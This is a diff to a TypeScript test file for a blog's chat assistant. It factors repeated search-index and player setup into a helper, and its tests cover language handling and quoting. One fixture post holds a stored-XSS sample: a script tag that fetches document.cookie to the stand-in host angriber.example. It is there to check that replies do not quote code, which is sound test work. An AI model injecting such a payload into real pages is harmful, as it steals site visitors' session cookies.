@@ -65,8 +65,13 @@ const POSTS: PublishedPost[] = [
 ];
 
 const vocabulary = seedVocabulary(new Vocabulary());
-const index = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs(POSTS)], vocabulary);
-const play = chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => index, today: { year: 2026, month: 11, day: 28 } });
+/** A visitor's messages played over the site's pages and these posts only. */
+function playerOver(posts: PublishedPost[]) {
+  const index = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs(posts)], vocabulary);
+  return chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => index, today: { year: 2026, month: 11, day: 28 } });
+}
+
+const play = playerOver(POSTS);
 
 describe("the blog answers what a visitor asks of it", () => {
   it("answers from the post a visitor names by its subject, with the section that answers", async () => {
@@ -117,8 +122,7 @@ describe("what a reply quotes from a post", () => {
     "Fantastisk produkt! <script>fetch('https://angriber.example/stjael?c=' + document.cookie)</script>",
     "Hvis siden indsætter anmeldelsen som HTML, kører scriptet i browseren hos alle, der læser anmeldelsen.",
   ]);
-  const xssIndex = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs([XSS])], vocabulary);
-  const playXss = chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => xssIndex, today: { year: 2026, month: 11, day: 28 } });
+  const playXss = playerOver([XSS]);
 
   it("quotes no line of code as a sentence", async () => {
     const reply = await playXss("har i skrevet noget om xss på webshoppen?");
@@ -140,8 +144,7 @@ describe("a post in the other language", () => {
     "## 3. Stop automatic forwarding to external addresses",
     "Forwarding rules leak mail.",
   ]);
-  const m365Index = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs([M365])], vocabulary);
-  const playM365 = chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => m365Index, today: { year: 2026, month: 11, day: 28 } });
+  const playM365 = playerOver([M365]);
 
   it("links an English post for a Swedish question in Danish words, without quoting English", async () => {
     const reply = await playM365("Vilka inställningar i Microsoft 365 är viktigast att ändra?");
@@ -171,8 +174,7 @@ describe("which part of a post answers", () => {
       "",
       "Pas på \"MFA-træthed\": angribere sender mange login-anmodninger i håb om, at brugeren til sidst trykker godkend.",
     ]);
-    const mfaIndex = new SearchIndex([...staticDocs(DEFAULT_SITE_IDENTITY), ...postDocs([MFA])], vocabulary);
-    const playMfa = chatPlayer({ identity: DEFAULT_SITE_IDENTITY, userEmail: null, vocabulary, index: async () => mfaIndex, today: { year: 2026, month: 11, day: 28 } });
+    const playMfa = playerOver([MFA]);
     const reply = await playMfa("hvad er MFA-træthed?");
     expect(reply.text).toMatch(/angribere sender mange login-anmodninger/);
     // A list's lead-in keeps its colon.
